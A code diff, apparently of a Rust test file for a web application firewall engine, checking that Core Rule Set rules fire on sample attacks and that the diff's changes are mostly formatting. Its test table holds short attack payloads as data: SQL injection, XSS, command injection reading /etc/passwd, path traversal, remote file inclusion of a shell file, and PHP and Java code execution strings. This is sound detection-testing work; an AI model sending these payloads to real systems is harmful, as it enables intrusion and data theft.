@@ -2,9 +2,7 @@
 //! attack requests per category with the rules that must fire, benign requests
 //! that must not, the share of the attack set flagged at PL1, and no panics.
 
-mod common;
-
-use common::{debian_crs, get};
+use super::common::{debian_crs, get};
 use mamori_crs::{Category, Request, RuleSet};
 use proptest::prelude::*;
 
@@ -18,10 +16,17 @@ fn loads_the_debian_rule_set() {
     for w in &st.warnings {
         assert!(w.at.contains(".conf:"), "{w:?}");
     }
-    assert!(crs.version().is_some_and(|v| v.starts_with('3') || v.starts_with('4')));
+    assert!(
+        crs.version()
+            .is_some_and(|v| v.starts_with('3') || v.starts_with('4'))
+    );
     assert_eq!(crs.threshold(), 5);
     assert!(crs.files().iter().all(|f| f.starts_with("REQUEST-9")));
-    assert!(!crs.files().iter().any(|f| f.contains("-922-") || f.contains("-910-")));
+    assert!(
+        !crs.files()
+            .iter()
+            .any(|f| f.contains("-922-") || f.contains("-910-"))
+    );
 }
 
 fn ids(crs: &RuleSet, req: &Request<'_>) -> Vec<u32> {
@@ -34,21 +39,45 @@ fn attacks_fire_the_expected_rules() {
     let table: &[(&str, u32, Category)] = &[
         ("/?id=1%27%20or%20%271%27=%271", 942100, Category::Sqli),
         ("/?id=1%20AND%20SLEEP(5)", 942160, Category::Sqli),
-        ("/?q=%3Cscript%3Ealert(1)%3C/script%3E", 941110, Category::Xss),
-        ("/?q=%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E", 941100, Category::Xss),
+        (
+            "/?q=%3Cscript%3Ealert(1)%3C/script%3E",
+            941110,
+            Category::Xss,
+        ),
+        (
+            "/?q=%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E",
+            941100,
+            Category::Xss,
+        ),
         ("/?cmd=;cat%20/etc/passwd", 932100, Category::Rce),
         ("/?x=%26cmd.exe%20/c%20whoami", 932110, Category::Rce),
         ("/?file=../../../../etc/passwd", 930100, Category::Lfi),
         ("/?f=/etc/passwd", 930120, Category::Lfi),
-        ("/?page=http://203.0.113.9/shell.txt?", 931120, Category::Rfi),
-        ("/?page=php://filter/convert.base64-encode/resource=index.php", 933140, Category::Php),
-        ("/?x=java.lang.Runtime.getRuntime().exec(%22id%22)", 944100, Category::Java),
+        (
+            "/?page=http://203.0.113.9/shell.txt?",
+            931120,
+            Category::Rfi,
+        ),
+        (
+            "/?page=php://filter/convert.base64-encode/resource=index.php",
+            933140,
+            Category::Php,
+        ),
+        (
+            "/?x=java.lang.Runtime.getRuntime().exec(%22id%22)",
+            944100,
+            Category::Java,
+        ),
     ];
     for (uri, id, cat) in table {
         let ev = crs.evaluate(&get(uri));
         assert!(ev.attack, "{uri}: not flagged ({:?})", ids(&crs, &get(uri)));
         let m = ev.matches.iter().find(|m| m.id == *id);
-        assert!(m.is_some(), "{uri}: {id} did not fire, got {:?}", ids(&crs, &get(uri)));
+        assert!(
+            m.is_some(),
+            "{uri}: {id} did not fire, got {:?}",
+            ids(&crs, &get(uri))
+        );
         assert_eq!(m.map(|m| m.category), Some(*cat), "{uri}");
         assert!(crs.may_match(&get(uri)), "{uri}: the pre-filter skipped it");
     }
@@ -57,7 +86,10 @@ fn attacks_fire_the_expected_rules() {
     assert!(ids(&crs, &scanner).contains(&913100));
     let top = crs.evaluate(&scanner);
     assert_eq!(top.top().map(|m| m.category), Some(Category::Scanner));
-    assert!(top.top().is_some_and(|m| m.data.contains("sqlmap")), "{top:?}");
+    assert!(
+        top.top().is_some_and(|m| m.data.contains("sqlmap")),
+        "{top:?}"
+    );
 }
 
 #[test]
@@ -79,7 +111,9 @@ fn benign_requests_are_not_flagged_at_pl1() {
 
 #[test]
 fn paranoia_level_two_adds_rules() {
-    let (Some(pl1), Some(pl2)) = (debian_crs(1), debian_crs(2)) else { return };
+    let (Some(pl1), Some(pl2)) = (debian_crs(1), debian_crs(2)) else {
+        return;
+    };
     // 942432 (restricted SQL character anomaly, PL2) must not run at PL1.
     let req = get("/?q=a%27%27%27%27%27b");
     assert!(pl1.evaluate(&req).matches.iter().all(|m| m.id != 942432));
@@ -105,7 +139,7 @@ fn fixture(name: &str) -> Vec<(String, Option<String>)> {
 }
 
 /// The share of the attack set CRS flags at PL1, per category; printed for the
-/// report (`cargo test -p mamori-crs --test crs -- --nocapture share`).
+/// report (`cargo test -p mamori-crs --test it -- --nocapture share`).
 #[test]
 fn share_of_attacks_flagged_at_pl1() {
     let Some(crs) = debian_crs(1) else { return };
@@ -113,7 +147,10 @@ fn share_of_attacks_flagged_at_pl1() {
     let text = std::fs::read_to_string(path).unwrap();
     let mut per: std::collections::BTreeMap<&str, (usize, usize)> = Default::default();
     let mut missed = Vec::new();
-    for l in text.lines().filter(|l| !l.starts_with('#') && !l.trim().is_empty()) {
+    for l in text
+        .lines()
+        .filter(|l| !l.starts_with('#') && !l.trim().is_empty())
+    {
         let f: Vec<&str> = l.split('\t').collect();
         let (cat, uri, ua) = (f[0], f[1], f[2]);
         let mut req = get(uri);
@@ -133,7 +170,10 @@ fn share_of_attacks_flagged_at_pl1() {
     for (cat, (h, n)) in &per {
         eprintln!("{cat:12} {h:3}/{n:3}");
     }
-    eprintln!("all          {hit:3}/{all:3} = {:.1} %", 100.0 * hit as f64 / all as f64);
+    eprintln!(
+        "all          {hit:3}/{all:3} = {:.1} %",
+        100.0 * hit as f64 / all as f64
+    );
     eprintln!("missed:\n{}", missed.join("\n"));
     assert!(hit * 100 >= all * 80, "CRS PL1 flagged only {hit} of {all}");
     let benign = fixture("benign.tsv");
